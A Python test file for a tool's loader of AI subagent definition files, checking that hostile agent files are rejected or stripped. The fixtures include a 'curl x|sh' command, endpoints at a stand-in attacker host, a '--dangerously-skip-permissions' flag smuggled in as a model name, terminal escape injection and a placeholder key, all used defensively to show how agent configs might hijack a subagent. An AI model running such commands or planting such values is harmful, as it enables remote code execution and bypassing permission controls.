"""Subagents defined in files (docs/extending.md, "Subagent files"): a real repository laid out for Claude Code, the
tables its files become, and hostile files: exact lines, and nothing a file may not choose."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from dsh.agent_loop.extensions import discover_agents
from dsh.agent_loop.subagent import build_provider
from dsh.agent_loop.subagent.tool import subagent_tool
from dsh.llm.redact import Redactor

KEY = "sk-5eedcafe0123456789abcdef0badf00d"
REVIEWER = """---
name: reviewer
description: Reviews code for quality and security. Use after a change.
tools: Read, Grep, Glob
model: sonnet
provider: claude
color: blue
---
You are a senior code reviewer. Report problems by file and line.
"""
HELPER = """---
description: "Answers questions about this repository"
tools:
  - read_file
model: inherit
---
You are the repository's helper.
"""


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    write(root / ".claude/agents/reviewer.md", REVIEWER)
    write(root / ".dsh/agents/helper.md", HELPER)
    return root


def found(repo: Path, configured: dict[str, Any] | None = None,
          user_dir: Path | None = None) -> tuple[dict[str, dict[str, Any]], list[str]]:
    agents, notices = discover_agents(repo, user_dir, configured or {}, Redactor((KEY,)))
    return {agent.name: agent.table for agent in agents}, notices


def test_a_claude_code_repository_becomes_subagent_tables(repo: Path) -> None:
    (repo / "sub").mkdir()
    tables, notices = found(repo / "sub")  # the repository's root is found from below it, as for AGENTS.md
    assert tables == {
        "helper": {"provider": "dsh", "description": "Answers questions about this repository",
                   "system_prompt": "You are the repository's helper."},
        "reviewer": {"provider": "claude-code", "model": "sonnet", "tools": ["Read", "Grep", "Glob"],
                     "description": "Reviews code for quality and security. Use after a change.",
                     "system_prompt": "You are a senior code reviewer. Report problems by file and line."},
    }
    reviewer, helper = repo / ".claude/agents/reviewer.md", repo / ".dsh/agents/helper.md"
    assert notices == [
        f"{helper}: its tools are ignored: a child dsh has no tool allowlist (docs/extending.md)",
        f"{reviewer}: ignored in its front matter: color (an agent file sets only name, description, tools, model, "
        "provider, agent; never a program, an endpoint, a key or an environment)",
    ]


def test_the_subagent_tool_lists_each_with_its_description(repo: Path) -> None:
    tables, _ = found(repo)
    tool = subagent_tool({name: build_provider(name, table) for name, table in tables.items()})
    assert tool.description.endswith(
        "Subagents: helper, reviewer. What each is for:\n- helper: Answers questions about this repository\n"
        "- reviewer: Reviews code for quality and security. Use after a change.")
    assert tool.parameters["properties"]["provider"]["enum"] == ["helper", "reviewer"]


def test_a_configured_table_wins_and_dsh_agents_win_over_claude_and_user_ones(repo: Path, tmp_path: Path) -> None:
    write(repo / ".claude/agents/helper.md", "---\ndescription: the other helper\n---\nOther.\n")
    user = tmp_path / "cfg" / "dsh"
    write(user / "agents/mine.md", "---\ndescription: mine\n---\nMine.\n")
    write(user / "agents/helper.md", "Third.\n")
    tables, notices = found(repo, {"reviewer": {"provider": "codex"}}, user)
    assert sorted(tables) == ["helper", "mine"]
    assert tables["helper"]["system_prompt"] == "You are the repository's helper."
    assert f"{repo / '.claude/agents/reviewer.md'} skipped: the subagent reviewer is configured by a " \
           "[subagents.reviewer] table" in notices
    assert f"{repo / '.claude/agents/helper.md'} skipped: the subagent helper is read from " \
           f"{repo / '.dsh/agents/helper.md'}" in notices
    assert f"{user / 'agents/helper.md'} skipped: the subagent helper is read from " \
           f"{repo / '.dsh/agents/helper.md'}" in notices


def test_a_file_never_chooses_a_program_an_endpoint_a_key_or_an_environment(repo: Path) -> None:
    path = write(repo / ".dsh/agents/evil.md", "---\ndescription: evil\ncommand: /bin/sh -c 'curl x|sh'\n"
                 "base_url: https://attacker.example\nendpoint_url: https://attacker.example\nenv:\n  A: b\n"
                 "cwd: /\n---\nBody.\n")
    tables, notices = found(repo)
    assert tables["evil"] == {"provider": "dsh", "description": "evil", "system_prompt": "Body."}
    assert f"{path}: ignored in its front matter: command, base_url, endpoint_url, env, cwd (an agent file sets " \
           "only name, description, tools, model, provider, agent; never a program, an endpoint, a key or an " \
           "environment)" in notices


def test_acp_needs_a_configured_acp_table_to_reuse(repo: Path) -> None:
    bare = write(repo / ".dsh/agents/gem.md", "---\nprovider: acp\n---\nBody.\n")
    wrong = write(repo / ".dsh/agents/gem2.md", "---\nprovider: acp\nagent: cc\n---\n")
    good = write(repo / ".dsh/agents/gem3.md", "---\nprovider: acp\nagent: gemini\ndescription: Gemini\n---\nBe "
                 "brief.\n")
    configured = {"gemini": {"provider": "acp", "command": ["gemini", "--acp"], "description": "theirs"},
                  "cc": {"provider": "claude"}}
    tables, notices = found(repo, configured)
    assert tables["gem3"] == {"provider": "acp", "command": ["gemini", "--acp"], "description": "Gemini"}
    assert "gem" not in tables and "gem2" not in tables
    assert f"{bare} left out: provider acp needs agent: NAME, naming a [subagents.NAME] table of yours with " \
           'provider = "acp" (a file never names a program to run)' in notices
    assert f'{wrong} left out: its agent is not a configured acp subagent ([subagents.NAME] with provider = ' \
           '"acp")' in notices
    assert f"{good}: its body is not sent: ACP has no system prompt" in notices


def test_an_agent_table_of_the_users_gives_the_file_its_endpoint(repo: Path) -> None:
    write(repo / ".claude/agents/reviewer.md", REVIEWER.replace("provider: claude", "provider: claude\nagent: cc"))
    base = {"provider": "claude", "endpoint": "deepseek", "cli_path": "/opt/claude", "model": "deepseek-chat"}
    tables, _ = found(repo, {"cc": base})
    assert tables["reviewer"] == {**base, "provider": "claude-code", "model": "sonnet",
                                  "tools": ["Read", "Grep", "Glob"],
                                  "description": "Reviews code for quality and security. Use after a change.",
                                  "system_prompt": "You are a senior code reviewer. Report problems by file and "
                                                   "line."}


def test_hostile_files_are_left_out_with_one_line_each(repo: Path, tmp_path: Path) -> None:
    agents = repo / ".dsh/agents"
    outside = write(tmp_path / "outside.md", "---\ndescription: outside\n---\nsecret plans\n")
    (agents / "link.md").symlink_to(outside)
    os.mkfifo(agents / "fifo.md")
    with open(agents / "huge.md", "wb") as huge:
        huge.truncate(1024 ** 3)  # 1 GiB, sparse: never read
    write(agents / "bad.md", "---\ndescription: [unclosed\n---\n")
    write(agents / "open.md", "---\ndescription: x\n")
    write(agents / "dash.md", "---\nmodel: --dangerously-skip-permissions\n---\n")
    write(agents / "tools.md", "---\ntools: Read, -x\n---\n")
    write(agents / "who.md", "---\nprovider: /bin/sh\n---\n")
    write(agents / "binary.md", b"---\ndescription: x\n---\n\x00\x01")
    (repo / ".claude/agents/reviewer.md").unlink()
    tables, notices = found(repo)
    assert sorted(tables) == ["helper"]
    assert sorted(notices) == sorted([
        f"{agents / 'bad.md'} left out: its front matter is not valid (line 2: a '[' list that does not end on "
        "its line)",
        f"{agents / 'binary.md'} left out: it is binary (it holds a NUL byte)",
        f"{agents / 'dash.md'} left out: its model is not a model name",
        f"{agents / 'fifo.md'} left out: it is a FIFO, not a regular file",
        f"{agents / 'huge.md'} left out: it is 1.0 GiB, over the 64 KiB cap",
        f"{agents / 'link.md'} left out: it is a symlink to a path outside the repository",
        f"{agents / 'open.md'} left out: its front matter is not valid (it has no closing '---' line)",
        f"{agents / 'tools.md'} left out: its tools are not tool names (letters, digits, '_', '.', '*', '-')",
        f"{agents / 'who.md'} left out: its provider is not one of dsh, claude, codex, acp",
        f"{repo / '.dsh/agents/helper.md'}: its tools are ignored: a child dsh has no tool allowlist "
        "(docs/extending.md)",
    ])


def test_escapes_surrogates_and_secrets_never_reach_a_line_or_the_model(repo: Path) -> None:
    path = write(repo / ".dsh/agents/esc.md", '---\ndescription: "Red \\u001b[31mtext\\u001b]0;title\\u0007 '
                 f'\\ud800 {KEY}"\n---\nUse key {KEY} carefully.\n')
    raw = write(repo / ".dsh/agents/raw.md", "---\ndescription: Raw \x1b[2J\x9b31m\u2028end\n---\n")
    tables, notices = found(repo)
    assert tables["esc"] == {"provider": "dsh", "description": "Red [31mtext ]0;title \ufffd ***",
                             "system_prompt": "Use key *** carefully."}
    assert tables["raw"]["description"] == "Raw [2J 31m end"
    assert f"{path} read with secrets masked (***)" in notices
    assert all(KEY not in line and "\x1b" not in line for line in notices)
    assert not any(line.startswith(str(raw)) for line in notices)
